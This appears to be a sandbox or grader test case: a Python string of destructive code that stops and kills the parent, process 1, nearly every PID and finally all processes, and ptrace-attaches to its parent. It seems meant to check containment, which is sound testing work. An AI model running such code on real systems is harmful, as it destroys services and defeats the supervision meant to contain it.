"""Kills, stops and traces every process that it can name: parent, group, session, process 1 and all others."""

POINTS = 0
BEFORE = r'''
import ctypes, os, signal
me, libc = os.getpid(), ctypes.CDLL(None, use_errno=True)
for pid in {os.getppid(), 1, 2, *range(3, 40_000)} - {me, 0}:
    for number in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
libc.ptrace(16, os.getppid(), 0, 0)
for pid in (os.getppid(), os.getpgrp(), os.getsid(0)):
    try:
        os.setpriority(os.PRIO_PROCESS, pid, 19)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
'''
